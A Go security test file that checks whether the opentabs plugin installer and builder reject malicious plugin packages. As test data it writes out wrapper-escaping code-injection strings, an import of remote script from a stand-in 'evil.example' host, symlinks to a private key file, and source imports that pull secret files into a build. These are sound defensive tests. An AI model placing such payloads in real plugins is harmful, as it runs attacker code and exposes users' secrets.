package main

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"opentabs/internal/config"
)

// TestAttackByPlugin checks that installing or building a malicious plugin package
// cannot harm the user.
func TestAttackByPlugin(t *testing.T) {
	t.Run("adapter code that breaks out of its wrapper function", func(t *testing.T) {
		for _, code := range []string{
			"}); EVIL(); (function () {", "#!x\r}); EVIL(); (function(){", "#!x\u2028}); EVIL(); (function(){",
			`await / "(" ; }); EVIL(); (function(){ "x)" /g`, "<!-- \n}); EVIL(); (function(){", "}, EVIL(), function(){",
			"export default EVIL()", "import 'https://evil.example/x.js'", "let globalThis = window", "\xff});",
		} {
			dirs, dir := createBuiltPlugin(t)
			writeFile(t, dir, "dist/adapter.iife.js", code)
			if cmdOutput, err := opentabsCommand(t, dirs, "plugin", "add", dir).CombinedOutput(); err == nil {
				t.Errorf("opentabs added a plugin with the code %q, want an error; output: %s", code, cmdOutput)
			}
		}
	})
	t.Run("files of the package that link to the user's secrets", func(t *testing.T) {
		const secret = `S3CRET"name":`
		for _, file := range []string{"dist/adapter.iife.js", "dist/tools.json", "package.json"} {
			dirs, dir := createBuiltPlugin(t)
			privateFile := filepath.Join(t.TempDir(), "id_rsa")
			path := filepath.Join(dir, file)
			if err := errors.Join(os.WriteFile(privateFile, []byte(secret+"\nS3CRET line two\n"), 0o600), os.Remove(path), os.Symlink(privateFile, path)); err != nil {
				t.Fatal(err)
			}
			cmdOutput, err := opentabsCommand(t, dirs, "plugin", "add", dir).CombinedOutput()
			if err == nil || strings.Contains(string(cmdOutput), "S3CRET") {
				t.Errorf("adding a package whose %s links to a secret: error %v, output %s; want an error without the secret", file, err, cmdOutput)
			}
		}
	})
	t.Run("a source that bundles the user's secrets into the plugin", func(t *testing.T) {
		privateFile := filepath.Join(t.TempDir(), "secret.json")
		if err := os.WriteFile(privateFile, []byte(`{"a":"S3CRET"}`), 0o600); err != nil {
			t.Fatal(err)
		}
		for _, pluginDir := range []string{
			`import x from "` + privateFile + `"; export default x;`,
			`import x from "` + privateFile + `" with { type: "text" }; console.log(x);`,
			`import x from "../../../../../../../../../..` + privateFile + `"; console.log(x);`,
			`console.log(require("` + privateFile + `"));`,
			`import("` + privateFile + `").then(console.log);`,
		} {
			dirs, dir := createBuiltPlugin(t)
			writeFile(t, dir, "src/index.ts", pluginDir)
			if err := os.RemoveAll(filepath.Join(dir, "dist")); err != nil {
				t.Fatal(err)
			}
			cmdOutput, err := opentabsCommand(t, dirs, "plugin", "build", dir).CombinedOutput()
			if err == nil || strings.Contains(string(cmdOutput), "S3CRET") {
				t.Errorf("building %s with an import of a secret file: error %v, output %s; want an error without the secret", pluginDir, err, cmdOutput)
			}
			adapterCode, _ := os.ReadFile(filepath.Join(dir, "dist", "adapter.iife.js"))
			if strings.Contains(string(adapterCode), "S3CRET") {
				t.Errorf("the built plugin in %s contains the secret, want no secret", pluginDir)
			}
		}
	})
}

func createBuiltPlugin(t *testing.T) (dirs config.Dirs, dir string) {
	t.Helper()
	baseDir := t.TempDir()
	dirs = config.Dirs{Config: filepath.Join(baseDir, "home"), State: filepath.Join(baseDir, "home")}
	dir = filepath.Join(baseDir, "messages")
	writeFile(t, dir, "package.json", `{"name": "opentabs-plugin-messages", "version": "1.0.0", "main": "dist/adapter.iife.js",
		"opentabs": {"displayName": "Messages", "description": "For tests", "urlPatterns": ["*://localhost/*"]}}`)
	writeFile(t, dir, "dist/adapter.iife.js", `(() => {})();`)
	writeFile(t, dir, "dist/tools.json", `{"sdkVersion": "0.0.1", "tools": [
		{"name": "echo", "description": "Echo", "input_schema": {"type": "object"}, "output_schema": {"type": "object"}}]}`)
	return dirs, dir
}

func writeFile(t *testing.T, dir, name, fileContent string) {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(fileContent), 0o600)); err != nil {
		t.Fatal(err)
	}
}
